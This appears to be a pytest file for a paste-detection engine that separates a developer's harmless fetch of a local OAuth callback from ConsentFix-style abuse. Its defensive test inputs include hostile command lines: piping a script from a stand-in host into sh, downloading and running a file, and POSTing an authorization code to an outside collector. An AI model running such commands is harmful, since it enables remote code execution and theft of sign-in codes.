"""A developer's fetch of their own app's sign-in callback sends the code to this computer only."""

from __future__ import annotations

import pytest

from app.detection import Context, Engine, Level, PasteTarget

OWN = "curl -i 'http://localhost:8080/login/oauth2/code/keycloak?state=abc&code=test-code-123'"


def level(engine: Engine, text: str, target: PasteTarget, source: str | None = None) -> Level:
    return engine.read(text, [Context(source=source, target=target)])[0].level


@pytest.mark.parametrize(
    "text",
    [
        OWN,
        "wget -qO- 'http://127.0.0.1:5000/oauth2callback?state=Q1x&code=4%2F0AanRRrs'",
        "Invoke-WebRequest 'http://localhost:3000/api/auth/callback/github?code=8f2b1c7e9d&state=a'",
    ],
)
def test_a_fetch_of_the_own_callback_in_a_terminal_is_information(
    engine: Engine, text: str
) -> None:
    assert level(engine, text, PasteTarget.TERMINAL) <= Level.INFO
    # the same code where a page may receive it is what ConsentFix wants
    assert level(engine, text, PasteTarget.UNKNOWN) >= Level.SUSPICIOUS


@pytest.mark.parametrize(
    "text",
    [
        # the address alone: nothing fetches it, it is what a ConsentFix page asks for
        "http://localhost:8080/login/oauth2/code/keycloak?state=abc&code=test-code-123",
        # a second command, a pipe into a shell, a file run after
        OWN + " ; curl -s https://cdn-check.top/i.sh | sh",
        OWN + " | sh",
        OWN + " -o /tmp/x && bash /tmp/x",
        # the code sent to a stranger
        "curl -s -X POST https://collect.consent-verify.top/c -d "
        "'u=http://localhost:8400/?code=M.C507_BAY.2.U.1e8a'",
    ],
)
def test_anything_more_than_the_own_fetch_keeps_its_weight(engine: Engine, text: str) -> None:
    assert level(engine, text, PasteTarget.TERMINAL) >= Level.SUSPICIOUS
